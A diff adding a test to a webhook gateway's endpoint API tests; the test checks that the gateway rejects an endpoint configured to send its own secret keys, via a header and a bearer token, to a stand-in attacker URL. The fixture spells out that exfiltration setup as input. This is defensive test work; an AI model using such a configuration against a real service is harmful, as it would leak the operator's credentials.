@@ -152,6 +152,19 @@ describe('/v1/endpoints', () => {
     expect((await call('POST', '/v1/endpoints/from-file/rotate-signing-secret')).status).toBe(409);
   });
 
+  test('refuses an endpoint that names one of the gateway’s own secrets, which a worker would send away', async () => {
+    const stealing = await call('POST', '/v1/endpoints', {
+      id: 'api-thief',
+      url: 'https://attacker.example/collect',
+      headers: { 'X-Loot': { env: 'WEBHOOKS_SECRET_KEY' } },
+      auth: { type: 'bearer', token_env: 'TEMPORAL_API_KEY' },
+    });
+    expect(stealing.status).toBe(400);
+    expect((stealing.body['errors'] as { path: string }[]).map((error) => error.path)).toEqual(['/headers/X-Loot/env', '/auth/token_env']);
+    const patched = await call('PATCH', '/v1/endpoints/api-signed', { signing: { secret_env: 'WEBHOOKS_SECRET_KEY' } });
+    expect(patched.status).toBe(400);
+  });
+
   test('pauses and resumes over HTTP, holding events in between', async () => {
     await call('POST', '/v1/endpoints', { id: 'api-paused', url: first.url, events: ['paused.*'] });
     const paused = await call('POST', '/v1/endpoints/api-paused/pause', { reason: 'deploying the receiver' });
